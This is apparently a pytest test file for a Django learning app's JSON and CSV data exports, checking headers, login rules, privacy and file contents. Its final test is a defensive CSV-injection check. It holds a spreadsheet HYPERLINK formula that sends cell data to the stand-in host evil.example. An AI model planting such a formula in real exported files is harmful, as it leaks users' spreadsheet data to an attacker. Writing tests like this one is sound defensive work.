"""Your data out: the JSON and CSV exports, and the links to them."""

import csv
import io
import json
from datetime import date

import pytest
from django.utils import timezone

from accounts.models import Profile
from tests import dom
from tests.factories import LogEntryFactory, ProgressFactory, UserFactory
from tests.roadmap.portability.files import (
    EXPORT_JSON,
    EXPORT_LOG,
    EXPORT_PROGRESS,
    IMPORT,
)

# -- Export ---------------------------------------------------------------------------------------


def test_settings_link_to_every_export(learner_client):
    html = learner_client.get("/settings/").content.decode()

    assert dom.select_one(html, f'a[href="{EXPORT_JSON}"]').text == "Export as JSON"
    assert dom.select_one(html, f'a[href="{EXPORT_PROGRESS}"]').text == "Progress as CSV"
    assert dom.select_one(html, f'a[href="{EXPORT_LOG}"]').text == "Learning log as CSV"
    assert dom.select_one(html, f'form[action="{IMPORT}"]')["enctype"] == "multipart/form-data"


@pytest.mark.parametrize(
    ("path", "content_type", "suffix"),
    [
        (EXPORT_JSON, "application/json", ".json"),
        (EXPORT_PROGRESS, "text/csv; charset=utf-8", "-progress.csv"),
        (EXPORT_LOG, "text/csv; charset=utf-8", "-log.csv"),
    ],
)
def test_exports_download_as_attachments(learner_client, path, content_type, suffix):
    response = learner_client.get(path)

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    stamp = timezone.now().strftime("%Y%m%d")
    assert response["Content-Disposition"] == f'attachment; filename="mathpath-ada-{stamp}{suffix}"'
    assert response["Cache-Control"] == "no-store"


@pytest.mark.parametrize("path", [EXPORT_JSON, EXPORT_PROGRESS, EXPORT_LOG])
def test_exports_need_a_login_and_a_get(client, learner, path):
    anonymous = client.get(path)
    client.force_login(learner)

    assert anonymous.status_code == 302
    assert anonymous["Location"] == f"/accounts/login/?next={path}"
    assert client.post(path).status_code == 405


def test_the_json_export_holds_progress_notes_goal_settings_and_log(learner_client):
    data = json.loads(learner_client.get(EXPORT_JSON).content)

    assert (data["format"], data["version"]) == ("mathpath-export", 2)
    assert data["profile"] == {
        "username": "ada",
        "display_name": "Ada L.",
        "timezone": "Europe/Berlin",
        "journey_start": "2025-02-01",
        "share_log_notes": True,
        "plan_free_only": True,
        "goal": {"roadmap": "math-for-ml", "topic": "integrals"},
        "weekly_minutes": None,
        "target_date": None,
    }
    assert [(p["topic"], p["status"], p["note"]) for p in data["progress"]] == [
        ("derivatives", "learning", ""),
        ("limits", "mastered", "Larson 1.2, ex 1–40"),
    ]
    assert data["log"] == [
        {
            "date": "2025-03-01",
            "minutes": 360,
            "stage": "noob-level math grind",
            "satisfied": "yes",
            "note": 'Hard day, "but" good,\nsecond line',
            "topics": [
                {"roadmap": "math-for-ml", "topic": "limits"},
                {"roadmap": "math-for-ml", "topic": "derivatives"},
            ],
        },
        {
            "date": "2025-03-02",
            "minutes": 45,
            "stage": "",
            "satisfied": "not_really",
            "note": "",
            "topics": [],
        },
    ]


def test_the_json_export_holds_no_email_password_or_sharing_secrets(learner_client, learner):
    body = learner_client.get(EXPORT_JSON).content.decode()

    assert "ada@example.com" not in body
    assert learner.password not in body
    assert Profile.objects.get(user=learner).share_token not in body
    assert "visibility" not in json.loads(body)["profile"]


def test_the_json_export_holds_only_the_learners_own_data(learner_client, topics):
    other = UserFactory(username="grace")
    ProgressFactory(learner=other, topic=topics["integrals"], note="Grace's evidence")
    LogEntryFactory(learner=other, date=date(2025, 3, 5), note="Grace's log")

    body = learner_client.get(EXPORT_JSON).content.decode()

    assert "Grace" not in body
    assert "2025-03-05" not in body


def test_the_progress_csv_has_a_row_per_topic(learner_client):
    rows = list(csv.reader(io.StringIO(learner_client.get(EXPORT_PROGRESS).content.decode())))

    assert rows[0] == [
        "roadmap",
        "topic",
        "title",
        "status",
        "note",
        "status_changed_at",
        "checked",
        "checked_at",
        "check_score",
    ]
    assert [row[:5] for row in rows[1:]] == [
        ["math-for-ml", "derivatives", "Derivatives", "Learning", ""],
        ["math-for-ml", "limits", "Limits", "Mastered", "Larson 1.2, ex 1–40"],
    ]
    assert all(row[5].startswith(str(timezone.now().year)) for row in rows[1:])
    # Limits is mastered on Ada's word; derivatives is not covered (test_check_record has checked ones).
    assert [row[6:] for row in rows[1:]] == [["", "", ""], ["self-reported", "", ""]]


def test_the_log_csv_has_a_row_per_day_with_notes_quoted(learner_client):
    rows = list(csv.reader(io.StringIO(learner_client.get(EXPORT_LOG).content.decode())))

    assert rows == [
        ["date", "minutes", "stage", "satisfied", "topics", "note"],
        [
            "2025-03-01",
            "360",
            "noob-level math grind",
            "yes",
            "limits derivatives",
            'Hard day, "but" good,\nsecond line',
        ],
        ["2025-03-02", "45", "", "not_really", "", ""],
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_start_a_formula_is_exported_as_text(learner, learner_client, topics, start):
    """Security finding 3 (OWASP's CSV injection): a spreadsheet must never run a learner's text."""
    payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
    LogEntryFactory(learner=learner, date=date(2025, 3, 5), stage=payload, note=payload)
    ProgressFactory(learner=learner, topic=topics["integrals"], note=payload)

    log = list(csv.reader(io.StringIO(learner_client.get(EXPORT_LOG).content.decode())))
    progress = list(csv.reader(io.StringIO(learner_client.get(EXPORT_PROGRESS).content.decode())))

    [day] = [row for row in log if row[0] == "2025-03-05"]
    assert day[2] == day[5] == "'" + payload
    [row] = [row for row in progress if row[1] == "integrals"]
    assert row[4] == "'" + payload
    assert ["2025-03-02", "45", "", "not_really", "", ""] in log  # other cells as they were
